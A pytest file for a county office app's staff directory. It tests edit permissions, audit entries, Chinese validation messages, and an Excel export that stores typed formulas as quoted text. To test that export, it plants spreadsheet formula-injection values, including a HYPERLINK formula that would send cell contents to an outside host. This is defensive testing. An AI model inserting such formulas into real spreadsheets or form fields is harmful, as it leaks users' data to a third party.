"""The staff directory (通讯录): every staff member reads every unit's page; only a unit's own
单位管理员 edits it; the Excel export keeps a typed formula as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from conftest import persona
from opencounty.core.models import AuditEntry, Role
from opencounty.officedocs import directory
from opencounty.officedocs.staff_models import DirectoryContact, DirectoryUnit
from opencounty.officedocs.tests.conftest import unit

pytestmark = pytest.mark.django_db


@pytest.fixture
def chengguan_admin(db):
    return persona("cg_unit_admin", "T01", Role.UNIT_ADMINISTRATOR)


def form(**changes) -> dict:
    data = {
        "duty_phone": "0851-86000001",
        "fax": "0851-86000002",
        "offices-TOTAL_FORMS": "1",
        "offices-INITIAL_FORMS": "0",
        "offices-0-name": "党政综合办公室",
        "offices-0-phone": "0851-86000010",
        "offices-0-room": "镇政府 201 室",
        "contacts-TOTAL_FORMS": "2",
        "contacts-INITIAL_FORMS": "0",
        "contacts-0-office": "党政综合办公室",
        "contacts-0-name": "王明",
        "contacts-0-post": "主任",
        "contacts-0-office_phone": "0851-86000011",
        "contacts-0-mobile": "13800000001",
        "contacts-1-name": "",
    }
    data.update(changes)
    return data


def test_the_unit_administrator_edits_the_units_page_and_every_staff_member_reads_it(
    client, chengguan_admin, qingshi_clerk
):
    client.force_login(chengguan_admin)
    assert client.get(f"/admin/officedocs/directory/{unit('T01').pk}/edit/").status_code == 200
    response = client.post(f"/admin/officedocs/directory/{unit('T01').pk}/edit/", form())
    assert response.status_code == 302
    assert DirectoryUnit.objects.get(unit=unit("T01")).duty_phone == "0851-86000001"
    assert list(DirectoryContact.objects.values_list("name", "mobile")) == [("王明", "13800000001")]
    entry = AuditEntry.objects.get(action="officedocs.directory_update", outcome="success")
    assert entry.details == {"offices": 1, "contacts": 1}

    client.force_login(qingshi_clerk)
    html = client.get("/admin/officedocs/directory/").content.decode()
    assert "王明" in html and "13800000001" in html and "0851-86000001" in html
    assert "编辑本单位通讯录" not in html  # a clerk edits nothing


def snapshot() -> tuple:
    """Everything the directory holds, to show a refusal changed nothing."""
    return (
        list(DirectoryUnit.objects.values_list("unit", "duty_phone", "fax").order_by("unit")),
        list(DirectoryContact.objects.values_list("unit", "name", "mobile").order_by("id")),
    )


def test_nobody_edits_another_units_page(client, chengguan_admin, chengguan_clerk):
    before = snapshot()
    client.force_login(chengguan_admin)
    response = client.post(f"/admin/officedocs/directory/{unit('T02').pk}/edit/", form())
    assert response.status_code == 302 and response["Location"] == "/admin/officedocs/directory/"
    client.force_login(chengguan_clerk)  # 信息员 of the unit itself
    client.post(f"/admin/officedocs/directory/{unit('T01').pk}/edit/", form())
    assert snapshot() == before
    refused = AuditEntry.objects.filter(action="officedocs.directory_update", outcome="refused")
    assert refused.count() == 2
    with pytest.raises(directory.Refused, match="单位管理员"):
        directory.update_directory(
            chengguan_admin, unit("T02"), duty_phone="", fax="", offices=[], contacts=[]
        )


def test_bad_numbers_are_refused_in_chinese_and_change_nothing(client, chengguan_admin):
    before = snapshot()
    client.force_login(chengguan_admin)
    address = f"/admin/officedocs/directory/{unit('T01').pk}/edit/"
    response = client.post(address, form(**{"contacts-0-mobile": "1380000"}))
    assert (
        response.status_code == 400
        and "手机号码“1380000”应为 11 位数字" in response.content.decode()
    )
    response = client.post(address, form(duty_phone="=1+2"))
    assert response.status_code == 400 and "不是有效的电话号码" in response.content.decode()
    with pytest.raises(directory.Refused, match="姓名不能超过 40 个字"):
        directory.update_directory(
            chengguan_admin,
            unit("T01"),
            duty_phone="",
            fax="",
            offices=[],
            contacts=[directory.Contact(name="王" * 41)],
        )
    assert snapshot() == before


def test_the_three_administrators_do_not_read_the_directory(client):
    administrator = persona("dir_sysadmin", "001", Role.SECURITY_ADMINISTRATOR)
    client.force_login(administrator)
    assert client.get("/admin/officedocs/directory/").status_code == 302
    assert client.get("/admin/officedocs/directory/export.xlsx").status_code == 302


def test_the_export_keeps_a_typed_formula_as_text(client, chengguan_admin, qingshi_clerk):
    formula = '=HYPERLINK("http://x.cn/?"&A1,"点")'
    directory.update_directory(
        chengguan_admin,
        unit("T01"),
        duty_phone="0851-86000001",
        fax="",
        offices=[directory.Office(name="@SUM(1,2)", phone="0851-86000010")],
        contacts=[directory.Contact(name=formula, post="+主任", mobile="13800000001")],
    )
    client.force_login(qingshi_clerk)
    response = client.get("/admin/officedocs/directory/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    contacts = book["联系人"]
    header = [cell.value for cell in contacts[1]]
    assert header == ["单位", "科室", "姓名", "职务", "办公电话", "手机"]
    [row] = [r for r in contacts.iter_rows(min_row=2) if r[0].value == unit("T01").name]
    assert row[2].value == formula and row[2].data_type == "s" and row[2].quotePrefix
    assert row[3].value == "+主任" and row[3].quotePrefix
    assert row[5].value == "13800000001"
    [office] = [r for r in book["科室"].iter_rows(min_row=2) if r[0].value == unit("T01").name]
    assert office[1].value == "@SUM(1,2)" and office[1].data_type == "s" and office[1].quotePrefix
    units = {r[0].value: r[2].value for r in book["单位"].iter_rows(min_row=2)}
    assert units[unit("T01").name] == "0851-86000001"
    assert AuditEntry.objects.filter(action="officedocs.directory_export").exists()
